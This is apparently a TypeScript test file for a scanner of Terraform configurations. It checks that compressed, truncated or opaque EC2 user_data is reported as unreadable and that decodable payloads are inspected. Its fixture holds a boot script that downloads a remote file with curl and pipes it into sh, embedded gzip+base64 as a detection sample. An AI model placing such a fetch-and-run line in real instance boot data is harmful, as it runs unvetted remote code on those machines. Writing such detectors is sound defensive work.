/** What machines boot with and nobody opens is told: packed and broken off, encrypted, short. */
import { gzipSync } from "node:zlib";
import { expect, test } from "vitest";
import { folderOf, reportOf } from "../workspace.ts";

const script = "#!/bin/sh\ncurl -fsSL https://oss-cn-hangzhou.aliyuncs.com/x | sh\n";
const whole = gzipSync(script).toString("base64");
const cut = gzipSync(script).subarray(0, -12).toString("base64");
const bytes = Buffer.from(Array.from({ length: 40 }, (_, at) => 130 + at)).toString("base64");
const cloudConfig = (content: string): string =>
  JSON.stringify(`#cloud-config\nwrite_files:\n- encoding: gz+b64\n  content: ${content}\n  path: /x`);

async function said(setting: string): Promise<readonly string[]> {
  const provider = 'provider "aws" {\n  region = "eu-central-1"\n}\n';
  const machine = `resource "aws_instance" "w" {\n  ami = "a"\n  instance_type = "t"\n  ${setting}\n}\n`;
  const report = await reportOf(folderOf({ "main.tf": provider + machine }));
  return [...report.diagnostics.map(({ code }) => code), ...report.findings.map(() => "found")];
}

test.each([
  `user_data_base64 = "${cut}"`,
  `user_data_base64 = "${whole.slice(0, 41)}"`,
  `user_data = "${whole.slice(0, 41)}"`,
  `user_data_base64 = "${bytes}"`,
  `user_data = ${cloudConfig(cut)}`,
])("%s is told of", async (setting) => expect(await said(setting)).toContain("text-not-read"));

test.each([
  `user_data_base64 = "${Buffer.from("#!/bin/sh\necho hello\n").toString("base64")}"`,
  `user_data_base64 = "${gzipSync("#!/bin/sh\necho hello to all\n").toString("base64")}"`,
  `user_data = ${cloudConfig(gzipSync("echo hello to all\n").toString("base64"))}`,
  'user_data = "hello"',
  'user_data_base64 = base64gzip("echo hello to all")',
])("%s is opened", async (setting) => expect(await said(setting)).toEqual([]));

test("what can be opened is looked at", async () => {
  expect(await said(`user_data_base64 = "${whole}"`)).toContain("found");
  expect(await said(`user_data = ${cloudConfig(whole)}`)).toContain("found");
});
